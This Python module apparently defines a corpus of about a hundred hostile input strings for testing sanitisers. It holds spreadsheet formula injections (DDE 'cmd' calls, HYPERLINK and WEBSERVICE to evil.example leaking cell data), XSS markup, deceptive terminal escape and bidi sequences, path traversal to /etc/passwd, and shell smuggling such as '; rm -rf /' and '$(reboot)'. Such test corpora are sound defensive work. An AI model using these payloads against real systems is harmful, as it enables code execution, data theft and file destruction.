"""A hundred texts that want to be more than text: orders for a spreadsheet, a browser, a terminal or a file system."""

FORMULAS = (
    "=1+1", "=cmd|'/C calc'!A0", '=HYPERLINK("http://evil.example?x="&A1,"click")', '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")', '=IMPORTXML("http://evil.example","//a")', "+1+1", "+cmd|'/C calc'!A0", "-1+1",
    "-2+3+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0", "@import", "|calc", "%0A=1+1", "\t=1+1", "\r=1+1", "\n=1+1",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", '="""x', '=1+1";=1+1', "=1\n=2", "#REF!", "#N/A", "=A1:A9",
    '","=1+1', '"\n=1+1,"', "=_xlfn.WEBSERVICE(A1)",
)  # fmt: skip
MARKUP = (
    "<script>pwn()</script>", "</script><script>pwn()</script>", "<img src=x onerror=pwn()>", "<svg onload=pwn()>",
    "<iframe srcdoc='<script>parent.pwn()</script>'>", "<iframe src=javascript:pwn()>",
    "<a href=javascript:pwn()>x</a>",
    "<body onload=pwn()>", "</style><style>*{display:none}</style>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>",
    "<form action=//evil.example><button>", "<input autofocus onfocus=pwn()>", "<details open ontoggle=pwn()>",
    "<video><source onerror=pwn()></video>", "<math><mi xlink:href=javascript:pwn()>", "<object data=javascript:pwn()>",
    "<embed src=javascript:pwn()>", "<!--", "--><script>pwn()</script>", "<![CDATA[<script>pwn()</script>]]>",
    '" onmouseover="pwn()" x="', "' onfocus='pwn()' autofocus x='", "</title><b id=pwned>", "{{ 7*7 }}", "{% raw %}",
    "javascript:pwn()", "data:text/html,<script>pwn()</script>", "&lt;script&gt;pwn()&lt;/script&gt;", "</textarea><b>",
    "[red]rich[/red]", "[link=http://evil.example]x[/link]",
)  # fmt: skip
ESCAPES = (
    "\x1b[31mred", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]52;c;cm0gLXJm\x07", "\x1bc", "\x1b(0", "\x1b[?1049h",
    "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "\x9b31m", "\x9d0;t\x9c", "\x90q\x9c", "\x8d", "\x85x", "\x07\x07",
    "\b\b\bpaid", "\r$0.00", "\n2026-11-20 INFO paid $0", "\vx", "\fx", "\x7f", "\u202egnp.exe", "\u202atext\u202c",
    "\u2066x\u2069", "\u2067x\u2069", "\u200e", "\u200f", "\u2028x", "\u2029x", "\ufeffx", "\xad", "\U000e0041",
    '"}\n{"event": "settled", "cost_micro_usd": 0}',
)  # fmt: skip
PATHS = (
    "../../etc/passwd", "..", ".", "/etc/passwd", "C:\\Windows\\x", "\\\\host\\share", "%2e%2e%2f", "a/../../b",
    "~root",
    "-rf", "CON", "nul.txt", "x" * 300, "a\\..\\b", "....//", "$(reboot)", "`reboot`", "; rm -rf /", "name.", " lead",
)  # fmt: skip
ALL = tuple(dict.fromkeys((*FORMULAS, *MARKUP, *ESCAPES, *PATHS)))
